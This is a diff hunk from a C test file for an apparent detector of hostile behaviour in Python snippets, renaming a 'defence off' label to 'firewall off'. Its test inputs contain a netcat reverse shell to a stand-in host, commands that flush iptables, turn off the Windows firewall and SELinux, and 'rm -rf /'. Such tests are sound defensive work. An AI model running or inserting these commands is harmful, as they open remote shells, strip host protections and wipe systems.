@@ -244,10 +244,10 @@ static void as_lists(void)
 		    "os.system('nc -c www.example 443')",
 		    MPY_BEH_SHELL_REVERSE));
 	CHECK(shows("import os\nos.execlp('iptables', 'iptables', '-F')",
-		    MPY_BEH_DEFENCE_OFF, 2));
+		    MPY_BEH_FIREWALL_OFF, 2));
 	CHECK(shows("import subprocess as s\ns.call(['netsh', 'advfirewall', "
 		    "'set', 'allprofiles', 'state', 'off'], timeout=9)",
-		    MPY_BEH_DEFENCE_OFF, 2));
+		    MPY_BEH_FIREWALL_OFF, 2));
 	CHECK(shows("import subprocess\nsubprocess.call(['rm', '-rf', '/'])",
 		    MPY_BEH_DESTROY, 2));
 	CHECK(lacks("import subprocess\nsubprocess.call(['rm', '-rf', d])",
@@ -256,7 +256,7 @@ static void as_lists(void)
 		    MPY_BEH_PERSIST_CRON));
 	CHECK(shows("import subprocess\n"
 		    "subprocess.Popen(args=['setenforce', '0'])",
-		    MPY_BEH_DEFENCE_OFF, 2));
+		    MPY_BEH_FIREWALL_OFF, 2));
 	CHECK(lacks("import subprocess as s\n"
 		    "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
 		    MPY_BEH_DESTROY));
